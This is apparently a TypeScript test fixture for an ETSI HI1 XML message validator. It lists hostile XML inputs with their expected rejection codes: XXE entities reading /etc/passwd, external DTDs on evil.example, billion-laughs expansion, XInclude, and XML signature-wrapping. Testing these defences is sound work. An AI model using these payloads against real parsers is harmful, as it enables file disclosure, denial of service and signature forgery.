import type { HostileRow } from './hostile-sample.ts';
import { before, body, insteadOf, numbered, order, value } from './hostile-sample.ts';

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${numbered(12, (n) => `<!ENTITY a${n} "&a${n - 1};&a${n - 1};">`)}]>`;
const core = 'xmlns="http://uri.etsi.org/03120/common/2019/10/Core"';
const afterPayload = (text: string): string => insteadOf('</Payload>', `</Payload>${text}`);

export const declarations: readonly HostileRow[] = [
  ['empty document type', before('<!DOCTYPE HI1Message>'), 'xml.doctype'],
  ['document type in lower case', before('<!doctype HI1Message>'), 'xml.doctype'],
  ['document type after a comment', before('<!-- x --><!DOCTYPE HI1Message []>'), 'xml.doctype'],
  ['outside DTD', before('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'), 'xml.doctype'],
  ['public DTD', before('<!DOCTYPE x PUBLIC "-//X" "http://evil.example/">'), 'xml.doctype'],
  [
    'outside entity of a file',
    before('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>').replace(
      'wisp-ie-sandbox',
      '&f;',
    ),
    'xml.doctype',
  ],
  [
    'parameter entity',
    before('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'),
    'xml.doctype',
  ],
  ['billion laughs', before(laughs).replace('wisp-ie-sandbox', '&a11;'), 'xml.doctype'],
  ['entity that grows by itself', before('<!DOCTYPE x [<!ENTITY a "&a;">]>'), 'xml.doctype'],
  ['default attribute by DTD', before('<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>'), 'xml.doctype'],
  ['document type inside the root', insteadOf('<Header>', '<!DOCTYPE x><Header>'), 'xml.doctype'],
  ['document type behind the root', `${order}<!DOCTYPE x>`, 'xml.doctype'],
  ['entity declaration alone', before('<!ENTITY a "b">'), 'xml.doctype'],
  ['document type as text of a comment', before('<!-- <!DOCTYPE x> -->'), 'valid'],
  ['document type as text of CDATA', value('<![CDATA[<!DOCTYPE x>]]>'), 'valid'],
  ['entity nobody declared', value('&xxe;'), 'xml.notWellFormed'],
  ['entity of HTML', value('&nbsp;'), 'xml.notWellFormed'],
  ['reference to character zero', value('&#0;'), 'xml.notWellFormed'],
  ['reference to a control character', value('&#x1F;'), 'xml.notWellFormed'],
  ['reference to half a surrogate pair', value('&#xD800;'), 'xml.notWellFormed'],
];

export const inclusion: readonly HostileRow[] = [
  [
    'XInclude of a file',
    value(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
    ),
    'invalid',
  ],
  [
    'style sheet',
    before('<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'),
    'valid',
  ],
  ['catalogue', before('<?oasis-xml-catalog catalog="http://evil.example/c.xml"?>'), 'valid'],
  ['second XML declaration', before('<?xml version="1.0"?>'), 'xml.notWellFormed'],
  ['declaration behind white space', ` ${order}`, 'xml.notWellFormed'],
  ['instruction called XML', insteadOf('<Header>', '<?XML x?><Header>'), 'xml.notWellFormed'],
  ['open instruction', `${order}<?x`, 'xml.notWellFormed'],
  ['member behind an instruction', insteadOf('<Version>', '<?x?><Extra/><Version>'), 'invalid'],
  [
    'schema of its own',
    insteadOf('<HI1Message', '<HI1Message xsi:schemaLocation="urn:x file:///etc/passwd"'),
    'valid',
  ],
  [
    'schema of its own for its own extension',
    insteadOf(
      '<Header>',
      '<Header xsi:schemaLocation="urn:x ombud-schema:///core.xsd" xmlns:x="urn:x" x:y="1">',
    ),
    'invalid',
  ],
];

const ds = 'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"';
const thing = `<HI1Object ${core} xmlns:doc="http://uri.etsi.org/03120/common/2020/09/Document" xsi:type="doc:DocumentObject"><ObjectIdentifier>7e84603b-be7b-4cba-af26-8468d177f36b</ObjectIdentifier></HI1Object>`;

export const wrappings: readonly HostileRow[] = [
  ['other root', `<Message ${core}/>`, 'xml.notHi1'],
  ['root of another namespace', order.replace('2019/10/Core', '2019/10/Cores'), 'xml.notHi1'],
  ['message in an envelope', `<Envelope xmlns="urn:e">${body}</Envelope>`, 'xml.notHi1'],
  ['signature around the message', `<ds:Signature ${ds}>${body}</ds:Signature>`, 'xml.notHi1'],
  [
    'message in ds:Signature',
    afterPayload(`<ds:Signature ${ds}>${body}</ds:Signature>`),
    'xml.wrapped',
  ],
  ['message in Signature', afterPayload(`<Signature>${body}</Signature>`), 'xml.wrapped'],
  ['message in a message', insteadOf('<Header>', `${body}<Header>`), 'xml.wrapped'],
  [
    'object in ds:Signature',
    afterPayload(`<ds:Signature ${ds}><ds:Object>${thing}</ds:Object></ds:Signature>`),
    'xml.wrapped',
  ],
  ['object in Signature', afterPayload(`<Signature>${thing}</Signature>`), 'xml.wrapped'],
  ['object in Signatures', afterPayload(`<Signatures><x>${thing}</x></Signatures>`), 'xml.wrapped'],
  ['object in an object', insteadOf('<CountryCode>DE', `${thing}<CountryCode>DE`), 'xml.wrapped'],
  [
    'object where none belongs',
    insteadOf('<ActionRequests>', `${thing}<ActionRequests>`),
    'invalid',
  ],
  [
    'same xml:id twice',
    insteadOf('<Header>', '<Header xml:id="a"><x xml:id="a"/>'),
    'xml.duplicateId',
  ],
  [
    'same Id of two signatures',
    afterPayload(`<ds:Signature ${ds} Id="a"><ds:Object Id="a"/></ds:Signature>`),
    'xml.duplicateId',
  ],
  [
    'same id under two attribute names',
    afterPayload(`<ds:Signature ${ds} ID="a"><ds:Object xmlns:u="urn:u" u:Id="a"/></ds:Signature>`),
    'xml.duplicateId',
  ],
  [
    'two ids of a signature',
    afterPayload(`<ds:Signature ${ds} Id="a"><ds:Object Id="b"/></ds:Signature>`),
    'valid',
  ],
];
